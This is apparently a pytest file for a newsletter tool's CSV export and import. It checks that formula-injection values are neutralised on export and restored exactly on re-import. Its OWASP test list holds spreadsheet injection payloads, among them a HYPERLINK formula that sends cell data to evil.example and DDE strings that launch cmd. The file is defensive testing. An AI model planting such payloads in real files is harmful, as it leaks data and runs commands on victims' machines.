"""CSV that Digest writes cannot run in a spreadsheet (OWASP "CSV injection"), and comes back
unchanged when Digest imports it again.

The hostile values are OWASP's examples: a cell that starts with `=`, `+`, `-`, `@`, a tab or
a carriage return is taken as a formula by Excel, LibreOffice or Google Sheets.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select

from digest import csvfiles
from digest.cli import cli
from digest.models import ConsentEvent, Newsletter, Subscriber, SubscriberStatus, Subscription

OWASP = [
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!E1",
    "+2+3+cmd|' /C calc'!E1",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+2",
    "\r=1+2",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value", [*OWASP, "'=already quoted", "''-twice", "'plain", "", "Ann"])
def test_a_neutralised_value_is_never_a_formula_and_restores_exactly(value: str) -> None:
    written = csvfiles.neutralise(value)
    assert not written.startswith(FORMULA_STARTS)
    assert csvfiles.restore(written) == value


@pytest.mark.parametrize("value", ["Ann", "'quoted by the person", "O'Brien", "plain-hyphen"])
def test_harmless_values_are_written_as_they_are(value: str) -> None:
    assert csvfiles.neutralise(value) == value


@pytest.fixture
def run(factory, monkeypatch):
    monkeypatch.setenv("DIGEST_SECRET_KEY", "csv-injection-test")
    db = factory.kw["bind"].url.render_as_string(hide_password=False)

    def invoke(*args: str) -> str:
        result = CliRunner().invoke(cli, ["--db", db, "subscribers", *args])
        assert result.exit_code == 0, result.output
        return result.output

    return invoke


def _add_hostile_subscribers(factory) -> dict[str, tuple[str, str]]:
    """A subscriber per OWASP example: the value as name and as consent source (data written
    before imports checked names, or by another program). Returns address: (name, source)."""
    expected = {}
    with factory() as session:
        newsletter = session.scalar(select(Newsletter).where(Newsletter.slug == "caspar"))
        for n, value in enumerate(OWASP):
            # A local part may itself start with `=`, `+` or `-`.
            email = f"{'=-+'[n % 3]}reader{n}@example.org"
            subscriber = Subscriber(email=email, name=value)
            subscriber.subscriptions.append(
                Subscription(newsletter=newsletter, status=SubscriberStatus.ACTIVE)
            )
            session.add(subscriber)
            session.flush()
            session.add(
                ConsentEvent(
                    subscriber_id=subscriber.id,
                    newsletter_id=newsletter.id,
                    kind="import",
                    form=value,
                )
            )
            expected[email] = (value, value)
        session.commit()
    return expected


def test_the_subscriber_export_runs_in_no_spreadsheet(run, factory, tmp_path: Path) -> None:
    expected = _add_hostile_subscribers(factory)
    out = tmp_path / "export.csv"
    run("export", "--newsletter", "caspar", "--out", str(out))
    with out.open(encoding="utf-8", newline="") as handle:  # a CR in a cell stays one
        raw = handle.read()
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 1 + len(OWASP)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    # Every cell quoted: a `;` inside one does not start a cell for a `;`-separated reader.
    assert '"\'=1+2"";=1+2"' in raw
    assert "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in raw
    assert '"\'=-reader0@example.org"' not in raw and '"\'=reader0@example.org"' in raw
    by_email = {csvfiles.restore(r[0]): r for r in rows[1:]}
    assert set(by_email) == set(expected)
    for email, (name, source) in expected.items():
        assert csvfiles.restore(by_email[email][1]) == name
        assert csvfiles.restore(by_email[email][4]) == source


# Names lose leading blanks on import, as on every way in; so tab- and CR-led values are
# tested above, on data written by other means.
ROUND_TRIP = [v for v in OWASP if not v.startswith(("\t", "\r"))]


def test_an_export_imported_again_gives_back_the_original_values(
    run, factory, tmp_path: Path
) -> None:
    """Import takes back the quote the export added (only in files in Digest's own format)."""
    source = tmp_path / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name", "consent_source"])
        for n, value in enumerate(ROUND_TRIP):
            writer.writerow([f"-reader{n}@example.org", value, value])
    assert f"{len(ROUND_TRIP)} added" in run("import", str(source), "--newsletter", "caspar")
    first = tmp_path / "first.csv"
    run("export", "--newsletter", "caspar", "--out", str(first))
    assert "0 rows skipped" in run("import", str(first), "--newsletter", "new-in-the-library")
    with factory() as session:
        names = dict(session.execute(select(Subscriber.email, Subscriber.name)).all())
    assert names == {f"-reader{n}@example.org": v for n, v in enumerate(ROUND_TRIP)}
    second = tmp_path / "second.csv"
    run("export", "--newsletter", "new-in-the-library", "--out", str(second))
    strip_status = [r[:2] + r[3:] for r in csv.reader(first.open(encoding="utf-8"))]
    assert strip_status == [r[:2] + r[3:] for r in csv.reader(second.open(encoding="utf-8"))]
